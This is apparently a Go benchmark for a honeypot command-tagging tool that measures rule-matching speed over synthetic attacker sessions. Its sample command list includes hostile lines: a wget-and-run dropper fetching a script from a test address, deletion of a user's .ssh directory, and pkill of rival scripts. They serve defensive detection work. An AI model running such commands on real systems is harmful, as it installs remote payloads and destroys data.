package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"log/slog"
	"math/rand/v2"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"ttpctl/internal/attack"
	"ttpctl/internal/store/rulesdir"
)

// benchCommands are command lines as sensors see them, 70 bytes on average.
var benchCommands = []string{
	"cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
	"cd ~ && rm -rf .ssh && mkdir .ssh && chmod -R go= ~/.ssh && cd ~",
	"uname -s -v -n -r -m",
	"free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
	"cd /tmp || cd /var/run; wget http://192.0.2.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
	"ls -lh $(which ls)",
	"/bin/busybox cat /proc/self/exe || cat /proc/self/exe",
	"rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh",
	"echo SHELL_TEST", "top",
}

// benchEvents returns n events of about 320 bytes, one a line.
func benchEvents(n int) []byte {
	var b bytes.Buffer
	for i := range n {
		fmt.Fprintf(&b, `{"source_kind":"command","source_id":"sess-%08x#cmd%d","attacker_uuid":"3a90f681-a007-5d06-8036-%012x","identity_uuid":null,"session_id":"sess-%08x","decky_id":"decky-%02d","ts":"2026-03-18T10:%02d:%02d.715732Z","payload":{"command_text":%q,"uid":0,"user":"root","pwd":"/root","src":"203.0.113.9","service":"ssh"}}`+"\n",
			i/7, i%7, i%5000, i/7, i%40, i/60%60, i%60, benchCommands[i%len(benchCommands)])
	}
	return b.Bytes()
}

// writeRules writes n generated rules, each with one or two literals of its
// own, and returns their directory.
func writeRules(b *testing.B, n int) string {
	dir, rng := b.TempDir(), rand.New(rand.NewPCG(3, 4))
	word := func() string {
		w := make([]byte, 7+rng.IntN(5))
		for i := range w {
			w[i] = byte('a' + rng.IntN(26))
		}
		return string(w)
	}
	for i := range n {
		id := fmt.Sprintf("R%05d", 10000+i)
		match := fmt.Sprintf(`{field: simple_command, pattern: '^(?:%s|%s)(?:\s|$)'}`, word(), word())
		if i%3 == 0 {
			match = fmt.Sprintf(`{pattern: '(?i)\b%s\b.*-[a-z]'}`, word())
		}
		text := fmt.Sprintf("rule_id: %s\nrule_version: 1\nname: g_%d\ndescription: generated\napplies_to: [command]\nmatch: %s\nemits: [{tactic: TA0007, technique_id: T1082, confidence: 0.7}]\n", id, i, match)
		if err := os.WriteFile(filepath.Join(dir, id+".yaml"), []byte(text), 0o600); err != nil {
			b.Fatal(err)
		}
	}
	return dir
}

// benchStreams are streams that nobody sees.
func benchStreams() *streams {
	return &streams{
		in: bytes.NewReader(nil), out: stream{Writer: io.Discard}, err: stream{Writer: io.Discard},
		environ: func() []string { return nil },
		lookup:  func(string) (string, bool) { return "", false },
		now:     time.Now, attack: sync.OnceValue(attack.Load), outlines: packOutlines, log: slog.New(slog.DiscardHandler), color: "never", quiet: true,
	}
}

// BenchmarkTag is a whole run of tag: reading rules and events, JSON Lines
// out. One operation is 50,000 events.
func BenchmarkTag(b *testing.B) {
	const events = 50_000
	input := filepath.Join(b.TempDir(), "events.jsonl")
	data := benchEvents(events)
	if err := os.WriteFile(input, data, 0o600); err != nil {
		b.Fatal(err)
	}
	for _, n := range []int{0, 25, 1000, 10000} {
		name, f := "rules=pack", tagFlags{output: outputs{list: []output{{format: "jsonl"}}}}
		if n > 0 {
			name, f.origin.rules = fmt.Sprintf("rules=%d", n), rulesdir.Layers{writeRules(b, n)}
		}
		f.input.maxLine = 16 << 20
		f.input.format = "ttp"
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(data)))
			b.ReportAllocs()
			for b.Loop() {
				if err := runTag(context.Background(), f, []string{input}, benchStreams()); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(events*b.N)/b.Elapsed().Seconds(), "events/s")
		})
	}
}
